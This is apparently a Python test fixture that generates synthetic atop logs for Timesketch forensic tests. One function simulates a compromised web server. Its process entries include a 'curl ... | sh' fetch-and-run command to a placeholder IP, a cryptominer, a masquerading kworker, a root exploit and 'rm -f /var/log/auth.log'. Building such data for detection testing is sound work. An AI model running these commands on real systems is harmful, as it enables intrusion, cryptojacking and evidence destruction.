"""Logs made for the tests with Timesketch."""

import log_builder

# A process that atop did not know before its exit.

_INTERVAL = 600


def _GetTask(pid, ppid, start, name, command_line, **values):
    """Makes the entry of a process.

    Args:
      pid (int): process identifier.
      ppid (int): process identifier of the parent process.
      start (int): time of the start in seconds relative to the first sample.
      name (bytes): name.
      command_line (bytes): command line.
      values (dict[str, object]): values of other members, those of gen without its
          name.

    Returns:
      dict[str, object]: values of the members.
    """
    task = {
        "gen.btime": log_builder.T0 + start,
        "gen.cmdline": command_line,
        "gen.isproc": 1,
        "gen.name": name,
        "gen.nthr": 1,
        "gen.pid": pid,
        "gen.ppid": ppid,
        "gen.state": b"S",
        "gen.tgid": pid,
    }
    for member, value in values.items():
        part, _, name = member.rpartition("__")
        task[f"{part or 'gen':s}.{name:s}"] = value
    return task


def _GetIdentifiers(user_identifier):
    """Makes the identifiers of a user.

    Args:
      user_identifier (int): identifier.

    Returns:
      dict[str, int]: values of the members.
    """
    return {name: user_identifier for name in ("ruid", "euid", "suid", "fsuid")}


def CreateIntrusionLog(hostname):
    """Makes the log of a web server after a flaw in it was used to run a miner.

    Args:
      hostname (str): name of the host.

    Returns:
      bytes: contents of the file.
    """
    www_data = _GetIdentifiers(33)
    user = _GetIdentifiers(1000)
    ordinary = [
        _GetTask(1, 0, -9000, b"systemd", b"/sbin/init"),
        _GetTask(2, 0, -9000, b"kthreadd", b""),
        _GetTask(15, 2, -9000, b"kworker/0:1", b""),
        _GetTask(500, 1, -8000, b"apache2", b"/usr/sbin/apache2 -k start"),
        _GetTask(
            501, 500, -8000, b"apache2", b"/usr/sbin/apache2 -k start", **www_data
        ),
        _GetTask(600, 1, -8000, b"sshd", b"sshd: /usr/sbin/sshd -D [listener]"),
        _GetTask(605, 600, -702, b"sshd", b"sshd: alice [priv]"),
        _GetTask(610, 605, -700, b"bash", b"-bash", **user),
    ]
    download = b"sh -c curl -s http://192.0.2.66/x.sh | sh"
    shells = [
        _GetTask(700, 501, 10, b"sh", download, **www_data),
        _GetTask(702, 700, 11, b"sh", b"sh", **www_data),
    ]
    miner_command_line = b"/tmp/.x/x -o stratum+tcp://192.0.2.67:3333"
    miner = _GetTask(710, 702, 12, b"x", miner_command_line, **www_data)
    busy_miner = {**miner, "cpu.utime": 59000, "cpu.stime": 900}
    script = _GetTask(711, 1, 20, b"bash", b"bash /dev/shm/keep.sh", **www_data)
    kernel_thread = _GetTask(
        720, 702, 13, b"kworker/u8:9", b"[kworker/u8:9]", **www_data
    )
    exploit = _GetTask(730, 702, 15, b"pwn", b"./pwn", **www_data)
    root = {**exploit, **{f"gen.{name:s}": 0 for name in _GetIdentifiers(0)}}
    removal = _GetTask(750, 702, 700, b"rm", b"rm -f /var/log/auth.log", **www_data)
    set_user_identifier = _GetTask(
        760, 610, 30, b"su", b"su -", ruid=1000, euid=0, suid=0, fsuid=0
    )
    exits = [
        _GetTask(
            *(701, 700, 10, b"curl", b""),
            **{"ruid": 33, "state": b"E", "excode": log_builder.IS_NEW, "elaps": 50},
        ),
        _GetTask(
            *(740, 702, 14, b"pwn", b""),
            **{
                "ruid": 33,
                "state": b"E",
                "excode": log_builder.IS_NEW | 11,
                "elaps": 20,
            },
        ),
    ]
    intruder = [*shells, busy_miner, script, kernel_thread, set_user_identifier]
    service = [500, 501, 700, 702, 710, 711, 720, 730, 750]
    cgroups = [
        log_builder.Cgroup(b"", -1, [1], {}),
        log_builder.Cgroup(b"apache2.service", 0, service, {}),
        log_builder.Cgroup(b"session-4.scope", 0, [605, 610, 760], {}),
    ]

    builder = log_builder.LogBuilder(
        version="2.12", utsname={"nodename": hostname.encode("ascii")}
    )
    samples = [ordinary, [*ordinary, *intruder, exploit, *exits]]
    samples.append([*ordinary, *intruder, root, removal])
    samples.extend([[*ordinary, *intruder, root]] * 6)
    for index, tasks in enumerate(samples):
        builder.AddSample(
            log_builder.T0 + index * _INTERVAL,
            interval=_INTERVAL if index else 99999,
            flags=log_builder.FLAG_ACCOUNTING
            | log_builder.FLAG_IOSTAT
            | (0 if index else log_builder.FLAG_BOOT),
            tasks=tasks,
            cgroups=cgroups,
        )
    # What atop did not record in between is a gap.
    builder.AddSample(
        log_builder.T0 + (len(samples) + 5) * _INTERVAL,
        interval=_INTERVAL,
        flags=log_builder.FLAG_ACCOUNTING | log_builder.FLAG_IOSTAT,
        tasks=samples[-1],
        cgroups=cgroups,
    )
    return builder.Build()


def CreateDeviceLog(hostname):
    """Makes a log with an NFS mount and a control group.

    Args:
      hostname (str): name of the host.

    Returns:
      bytes: contents of the file.
    """
    builder = log_builder.LogBuilder(utsname={"nodename": hostname.encode("ascii")})
    tasks = [_GetTask(1, 0, -9000, b"systemd", b"/sbin/init")]
    for index in range(3):
        mount = {"mountdev": b"server:/export", "bytesread": 4096, "byteswrite": 8192}
        builder.AddSample(
            log_builder.T0 + index * _INTERVAL,
            interval=_INTERVAL if index else 99999,
            flags=log_builder.FLAG_ACCOUNTING
            | log_builder.FLAG_IOSTAT
            | (0 if index else log_builder.FLAG_BOOT),
            system={
                "nfs.nfsmounts.nrmounts": 1,
                "nfs.nfsmounts.nfsmnt": [mount],
            },
            tasks=tasks,
        )
    return builder.Build()
